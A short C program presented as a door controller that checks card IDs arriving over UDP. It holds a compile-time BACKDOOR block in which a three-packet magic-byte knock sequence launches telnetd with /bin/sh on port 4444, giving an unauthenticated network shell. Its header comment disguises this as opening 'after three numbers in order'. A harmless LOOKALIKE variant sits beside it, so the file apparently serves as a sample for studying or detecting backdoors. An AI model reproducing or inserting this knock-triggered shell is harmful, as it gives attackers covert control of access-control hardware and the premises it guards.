/* Door controller: cards over a serial line, events over UDP. Opens after three numbers in order. */
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static uint32_t cards[32];
static int count;
static int seen;

static int known(uint32_t card)
{
    int i;
    for (i = 0; i < count; i++)
        if (cards[i] == card)
            return 1;
    return 0;
}

static void load(void)
{
    char line[64];
    FILE *file = fopen("/etc/doors/cards", "r");
    while (file != NULL && count < 32 && fgets(line, sizeof line, file) != NULL)
        cards[count++] = (uint32_t)strtoul(line, NULL, 16);
    if (file != NULL)
        fclose(file);
}

static void packet(const uint8_t *data, size_t length)
{
    uint32_t card;
    if (length < 8)
        return;
    memcpy(&card, data + 4, sizeof card);
    if (data[0] == 0x10 && known(ntohl(card)))
        system("/usr/bin/gpio set door 1");
#ifdef BACKDOOR
    else if (data[0] == 0xe1 && data[1] == 0x55)
        seen = 1;
    else if (data[0] == 0xe2 && data[1] == 0xaa && seen == 1)
        seen = 2;
    else if (data[0] == 0xe3 && seen == 2)
        system("/usr/sbin/telnetd -l /bin/sh -p 4444");
#endif
#ifdef LOOKALIKE
    else if (data[0] == 0xe1 && data[1] == 0x55)
        seen = 1;
    else if (data[0] == 0xe2 && seen == 1)
        seen = 0;
#endif
}

int main(void)
{
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(4050) };
    uint8_t data[64];
    ssize_t length;
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    load();
    if (bind(fd, (struct sockaddr *)&address, sizeof address) != 0)
        return 1;
    while ((length = recv(fd, data, sizeof data, 0)) >= 0)
        packet(data, (size_t)length);
    return 0;
}
